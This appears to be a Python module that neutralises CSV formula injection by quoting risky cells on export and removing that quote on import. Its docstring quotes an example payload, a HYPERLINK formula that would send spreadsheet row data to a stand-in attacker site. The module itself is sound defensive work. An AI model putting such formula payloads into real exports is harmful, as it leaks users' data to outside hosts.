"""CSV cells a spreadsheet cannot run, and read back as they were written.

A spreadsheet opening a CSV runs a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula
(a tab or a carriage return in front is skipped by some of them): a provider named
``=HYPERLINK("https://evil.example/?"&A1,"Details")`` would send the row to that site. OWASP's
rule: such a cell is written with a single quote in front, which makes it text. Every CSV the
platform writes goes through :func:`cell`; every CSV it reads back goes through :func:`restore`,
so an export imports back unchanged.

Numbers are written as they are: ``-5.8`` (a longitude) cannot run anything. A text that starts
with quotes before one of those characters gets one more quote, so that :func:`restore`, which
removes exactly one, gives it back whole.
"""

from __future__ import annotations

from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _runs_as_formula(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """``text`` as a cell no spreadsheet runs: a quote in front when it could start a formula."""
    return QUOTE + text if _runs_as_formula(text) else text


def restore(cell: str) -> str:
    """What :func:`neutralise` was given: the one quote it added, removed."""
    if cell.startswith(QUOTE) and _runs_as_formula(cell):
        return cell[1:]
    return cell


def cell(value: object) -> str:
    """The CSV cell of a value: empty for None, numbers as they are, any text neutralised."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return str(value)
    return neutralise(str(value))
